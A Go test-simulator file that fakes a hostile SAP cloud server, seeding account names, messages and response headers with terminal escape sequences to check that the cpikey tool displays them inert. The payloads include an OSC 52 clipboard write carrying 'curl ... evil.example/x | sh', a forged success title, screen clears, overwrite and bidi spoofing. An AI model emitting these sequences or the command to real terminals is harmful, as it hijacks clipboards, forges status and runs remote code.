package sim

import (
	"encoding/base64"
	"slices"
	"strings"
	"sync"
)

// A hostile SAP (Config.Hostile): every display name, description and
// message text a user could see carries what an attacker who controls one
// of them would send to a terminal. cpikey must show all of it inert; the
// requests it sends must keep the names exact. Every hostile string the
// simulator uses is built here.

// hostileAttacks are the sequences appended to each text, in this order.
var hostileAttacks = []string{
	// OSC 52: sets the clipboard on terminals that honour it.
	"\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh")) + "\a",
	// OSC 0: retitles the window.
	"\x1b]0;cpikey: all checks passed\a",
	// CSI 2J, CSI H: clears the screen, cursor home.
	"\x1b[2J\x1b[H",
	// A bare CR: the forged text overwrites the line it follows.
	"\r✓ success: key verified",
	// U+202E RIGHT-TO-LEFT OVERRIDE: shows what follows reversed.
	"\u202etxt.yek",
	// C1 controls: 8-bit CSI (U+009B), NEL (U+0085).
	"\u009b31m\u0085",
	// DEL.
	"\x7f",
}

// hostileHeaderAttacks are what a response header can carry: Go's HTTP
// client refuses a whole response whose header holds a C0 control or DEL,
// but C1 controls, bidi controls and 8-bit bytes get through.
var hostileHeaderAttacks = []string{
	"\u009d52;c;" + base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh")) + "\u009c", // 8-bit OSC 52 ... ST
	"\u009b2J",   // 8-bit CSI 2J
	"\u202etxt.", // right-to-left override
	"\x9b2J",     // a lone 8-bit CSI byte (not UTF-8)
}

var (
	hostilePayload       = strings.Join(hostileAttacks, "")
	hostileHeaderPayload = strings.Join(hostileHeaderAttacks, "")
)

// hostileLog remembers every hostile string a server seeded or sent.
type hostileLog struct {
	mu   sync.Mutex
	seen map[string]bool
}

func (l *hostileLog) add(s string) string {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.seen == nil {
		l.seen = map[string]bool{}
	}
	l.seen[s] = true
	return s
}

// Hostile is text as a hostile SAP words it: followed by every attack.
func Hostile(text string) string {
	if text != "" {
		text += " "
	}
	return text + hostilePayload
}

// say is text as the server words it: with Config.Hostile, Hostile(text).
// Use it where a text a user may see is made.
func (s *Server) say(text string) string {
	if !s.cfg.Hostile {
		return text
	}
	return s.hostile.add(Hostile(text))
}

// sayHeader is say for a response header value.
func (s *Server) sayHeader(text string) string {
	if !s.cfg.Hostile || text == "" {
		return text
	}
	return s.hostile.add(text + " " + hostileHeaderPayload)
}

// hostileWorldLocked gives the global account, directories, subaccounts
// and orgs hostile display names, and adds a hostile space beside dev and
// prod (dev keeps its name, so the default target still works) holding an
// it-rt instance and key someone else named. Subdomains stay as they are:
// SAP allows only DNS labels there, and cpikey sends them in headers.
func (s *Server) hostileWorldLocked() {
	w, now := s.world, s.now()
	w.GlobalAccountName = s.say(w.GlobalAccountName)
	for _, d := range w.Directories {
		d.Name = s.say(d.Name)
	}
	for _, sa := range w.Subaccounts {
		sa.Name = s.say(sa.Name)
	}
	for _, o := range w.Orgs {
		o.Name = s.say(o.Name)
		sp := &Space{GUID: s.nextID(), Name: s.say("staging"), Org: o.GUID, Created: now}
		w.Spaces = append(w.Spaces, sp)
		done := Operation{Type: "create", Started: now, ReadyAt: now}
		inst := &Instance{GUID: s.nextID(), Name: s.say("CPI_OTHER"), Subaccount: o.Subaccount, Space: sp.GUID,
			Plan: "integration-flow", Parameters: map[string]any{"roles": []any{"ESBMessaging.send"}},
			Op: done, Created: now, CreatedBy: AdminUser}
		kg := s.nextID()
		key := &Key{GUID: kg, Name: s.say("CPI_OTHER-key"), Instance: inst.GUID, Parameters: map[string]any{},
			KeyType: "client_id_secret", ClientID: clientIDFor(kg, inst.Plan, w.subaccount(o.Subaccount).Subdomain),
			Op: done, Created: now}
		w.Instances, w.Keys = append(w.Instances, inst), append(w.Keys, key)
	}
}

// HostileSpace is the name of the hostile space Config.Hostile adds to
// every org (the user may pick it; cpikey must send it exactly).
func HostileSpace() string { return Hostile("staging") }

// HostileStrings returns every hostile string this server seeded in its
// world or sent in an answer so far (Config.Hostile), sorted.
func (s *Server) HostileStrings() []string {
	s.hostile.mu.Lock()
	defer s.hostile.mu.Unlock()
	out := make([]string, 0, len(s.hostile.seen))
	for k := range s.hostile.seen {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}
